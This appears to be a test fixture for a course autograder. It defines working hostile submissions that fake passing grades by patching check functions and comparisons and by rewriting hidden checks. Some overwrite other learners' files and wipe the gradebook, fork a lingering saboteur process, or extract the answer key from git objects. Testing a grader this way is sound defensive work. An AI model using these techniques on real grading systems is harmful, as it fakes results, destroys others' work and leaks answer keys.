"""Hostile submissions: code a learner could append to an exercise module to buy a grade or to
hurt someone else's. Each attack is appended to a base module (the blank release, whose TODOs all
raise, so every point it gets is unearned; or the reference, to check that an honest answer keeps
its points) and runs at import, in the learner's kernel and in the grading worker.

Every attack swallows its own errors: a failed attempt must not turn into an import error, which
would hide whether the attack worked.
"""
from __future__ import annotations

import textwrap
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    base: str          # "blank" (TODOs raise: earns nothing) or "reference" (earns full marks)
    code: str          # appended to the base module
    what: str          # one line for the closing table


def _guarded(body: str) -> str:
    return "\ntry:\n" + textwrap.indent(textwrap.dedent(body).strip(), "    ") + \
        "\nexcept BaseException:\n    pass\n"


PATCH_CHECKS = _guarded('''
    import sys, types, course.grading as _g
    for _name, _mod in list(sys.modules.items()):
        if _name.startswith("course.checks."):
            for _attr in dir(_mod):
                if _attr.startswith("check_"):
                    setattr(_mod, _attr, lambda *a, **k: print("✓ all good"))
    class _Anything(types.ModuleType):
        def __getattr__(self, name):
            return lambda *a, **k: None
    _g.load_reference = lambda *a, **k: _Anything("ref")
    _g.compare_with_reference = lambda *a, **k: None
    _g.fail = lambda *a, **k: None
''')

AST_TRANSFORMER = _guarded('''
    import ast
    from IPython import get_ipython
    class _Swallow(ast.NodeTransformer):
        def visit_Module(self, node):
            handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None,
                                        body=[ast.Pass()])
            node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[],
                                 finalbody=[])]
            return ast.fix_missing_locations(node)
    get_ipython().ast_transformers.append(_Swallow())
''')

WRITE_SOLUTIONS = _guarded('''
    import glob, os, pathlib
    here = pathlib.Path(os.getcwd()).resolve()
    candidates = set()
    for up in [here, *here.parents]:
        candidates |= set(glob.glob(str(up / "solutions" / "*" / "hidden_checks.py")))
        candidates |= set(glob.glob(str(up / "course" / "checks" / "*.py")))
        candidates |= set(glob.glob(str(up / "source" / "*" / "*.py")))
    for path in candidates:
        try:
            with open(path, "a") as f:
                f.write("\\n\\ndef __getattr__(name):\\n    return lambda *a, **k: None\\n")
                f.write("import course.grading as _g\\n_g.fail = lambda *a, **k: None\\n")
        except OSError:
            pass
''')

PATCH_COMPARISONS = _guarded('''
    import math, torch
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    torch.Tensor.equal = lambda *a, **k: True
    torch.testing.assert_close = lambda *a, **k: None
    math.isclose = lambda *a, **k: True
''')

REPLACE_REFERENCE = _guarded('''
    import sys, types
    class _Echo(types.ModuleType):
        def __getattr__(self, name):
            mine = globals().get(name)
            return mine if mine is not None else (lambda *a, **k: None)
    for _name in list(sys.modules):
        if _name.startswith("_course_reference_") or _name.startswith("course.checks"):
            sys.modules[_name] = _Echo(_name)
    import course.grading as _g
    _g.load_reference = lambda step, module: _Echo(module)
''')

DETECT_GRADING = _guarded('''
    import os
    if os.environ.get("NBGRADER_EXECUTION") or any("GRAD" in k for k in os.environ):
        exec(compile(__CHECKS__, "<patch>", "exec"), globals())
'''.replace("__CHECKS__", repr(PATCH_CHECKS + PATCH_COMPARISONS)))

HURT_OTHERS = _guarded('''
    import glob, os, pathlib
    here = pathlib.Path(os.getcwd()).resolve()
    broken = "raise SystemExit('sabotaged')\\n"
    for up in here.parents:
        for folder in ("autograded", "submitted", "feedback"):
            for path in glob.glob(str(up / folder / "*" / "*" / "*.py")):
                if pathlib.Path(path).resolve().parent != here:
                    try:
                        pathlib.Path(path).write_text(broken)
                    except OSError:
                        pass
        for path in glob.glob(str(up / "gradebook.db")):
            try:
                pathlib.Path(path).write_bytes(b"")
            except OSError:
                pass
''')

BACKGROUND_FORK = _guarded('''
    import os, sys, time
    if os.environ.get("NBGRADER_EXECUTION") and os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(15)   # outlive the cell and the kernel, then strike the next submission
            exec(compile(__HURT__, "<later>", "exec"), {})
        os._exit(0)
'''.replace("__HURT__", repr(HURT_OTHERS + WRITE_SOLUTIONS)))

STDERR_PRINT = '''
import sys as _sys
_honest = __FUNCTION__
def __FUNCTION__(*args, **kwargs):
    print("debug: __FUNCTION__ called", file=_sys.stderr)
    return _honest(*args, **kwargs)
'''

# The answer key from the course's git history: `git show HEAD:solutions/<step>/<module>`, with
# git's ownership check lifted on the command line, exec'd over the module's own functions.
GIT_SHOW = _guarded('''
    import pathlib, subprocess, course
    _name = pathlib.Path(__file__).name
    _git = ["git", "-c", "safe.directory=*"]
    for _up in pathlib.Path(course.__file__).resolve().parents:
        if (_up / ".git").exists():
            _paths = subprocess.run(_git + ["-C", str(_up), "ls-tree", "-r", "--name-only",
                                            "HEAD", "solutions"],
                                    capture_output=True, text=True).stdout.split()
            for _path in _paths:
                if _path.endswith("/" + _name):
                    _key = subprocess.run(_git + ["-C", str(_up), "show", "HEAD:" + _path],
                                          capture_output=True, text=True).stdout
                    exec(compile(_key, __file__, "exec"), globals())
            break
''')

# The same without a git binary: every object of .git (loose, or in a pack, deltas resolved)
# read with zlib alone; the newest blob that holds this module's solution regions is exec'd.
GIT_OBJECTS = _guarded('''
    import os, pathlib, struct, zlib, course

    def _inflate(data, at):
        d = zlib.decompressobj()
        return d.decompress(data[at:]) + d.flush()

    def _delta(base, delta):
        def size(at):
            n = shift = 0
            while True:
                b = delta[at]; at += 1
                n |= (b & 0x7F) << shift; shift += 7
                if not b & 0x80:
                    return n, at
        _, at = size(0)
        _, at = size(at)
        out = bytearray()
        while at < len(delta):
            op = delta[at]; at += 1
            if op & 0x80:
                off = ln = 0
                for i in range(4):
                    if op & (1 << i):
                        off |= delta[at] << (8 * i); at += 1
                for i in range(3):
                    if op & (0x10 << i):
                        ln |= delta[at] << (8 * i); at += 1
                out += base[off:off + (ln or 0x10000)]
            else:
                out += delta[at:at + op]; at += op
        return bytes(out)

    def _pack_blobs(pack, idx):
        data, index = pack.read_bytes(), idx.read_bytes()
        count = struct.unpack(">I", index[8 + 255 * 4:8 + 256 * 4])[0]
        names = [index[1032 + 20 * i:1052 + 20 * i] for i in range(count)]
        start = 1032 + 24 * count
        offsets = list(struct.unpack(">%dI" % count, index[start:start + 4 * count]))
        by_name = dict(zip(names, offsets))
        cache = {}

        def obj(at):
            if at in cache:
                return cache[at]
            b = data[at]; kind = (b >> 4) & 7; p = at + 1
            while b & 0x80:
                b = data[p]; p += 1
            if kind == 6:
                b = data[p]; p += 1; back = b & 0x7F
                while b & 0x80:
                    b = data[p]; p += 1; back = ((back + 1) << 7) | (b & 0x7F)
                bkind, base = obj(at - back)
                result = (bkind, _delta(base, _inflate(data, p)))
            elif kind == 7:
                bkind, base = obj(by_name[data[p:p + 20]])
                result = (bkind, _delta(base, _inflate(data, p + 20)))
            else:
                result = (kind, _inflate(data, p))
            cache[at] = result
            return result
        for at in sorted(offsets):
            try:
                kind, body = obj(at)
            except Exception:
                continue
            if kind == 3:
                yield body

    def _blobs(git):
        for folder in (git / "objects").glob("[0-9a-f][0-9a-f]"):
            for f in folder.iterdir():
                raw = zlib.decompress(f.read_bytes())
                if raw.startswith(b"blob "):
                    yield raw.split(b"\\0", 1)[1]
        for pack in (git / "objects" / "pack").glob("*.pack"):
            yield from _pack_blobs(pack, pack.with_suffix(".idx"))

    _me = pathlib.Path(__file__).read_text()
    _defs = [l.strip() for l in _me.splitlines() if l.startswith("def ") or l.startswith("class ")]
    for _up in pathlib.Path(course.__file__).resolve().parents:
        if (_up / ".git" / "objects").is_dir():
            for _blob in _blobs(_up / ".git"):
                _text = _blob.decode("utf-8", "replace")
                _theirs = {l.strip() for l in _text.splitlines()
                           if l.startswith("def ") or l.startswith("class ")}
                if "BEGIN SOLUTION" in _text and _theirs == set(_defs):
                    exec(compile(_text, __file__, "exec"), globals())
                    break
            break
''')

ATTACKS = [
    Attack("patch-checks", "blank", PATCH_CHECKS,
           "replace every check_* and load_reference at import"),
    Attack("ast-transformer", "blank", AST_TRANSFORMER,
           "IPython AST transformer wrapping every later cell in try/except"),
    Attack("write-solutions", "blank", WRITE_SOLUTIONS,
           "append no-op code to solutions/*/hidden_checks.py and course/checks/*.py"),
    Attack("patch-comparisons", "blank", PATCH_COMPARISONS,
           "torch.allclose / torch.equal / math.isclose always True"),
    Attack("replace-reference", "blank", REPLACE_REFERENCE,
           "replace the reference and check modules in sys.modules"),
    Attack("detect-grading", "blank", DETECT_GRADING,
           "patch only when the environment says it is being graded"),
    Attack("hurt-others", "blank", HURT_OTHERS,
           "overwrite other learners' modules and the gradebook"),
    Attack("background-fork", "blank", BACKGROUND_FORK,
           "fork a process that outlives the kernel and strikes later"),
    Attack("git-show", "blank", GIT_SHOW,
           "the answer key from the course's git history (git show HEAD:solutions/...)"),
    Attack("git-objects", "blank", GIT_OBJECTS,
           "the answer key from .git/objects read with zlib (loose objects and packs)"),
    Attack("stderr-print", "reference", STDERR_PRINT,
           "a correct module with a debug print to stderr (honest: keeps full marks)"),
]


def hostile_module(attack: Attack, blank: str, reference: str, function: str) -> str:
    """The module text of `attack` on its base; `function` is the exercise function an attack
    on one function (the stderr print) wraps."""
    code = attack.code.replace("__FUNCTION__", function)
    return (reference if attack.base == "reference" else blank) + "\n" + code
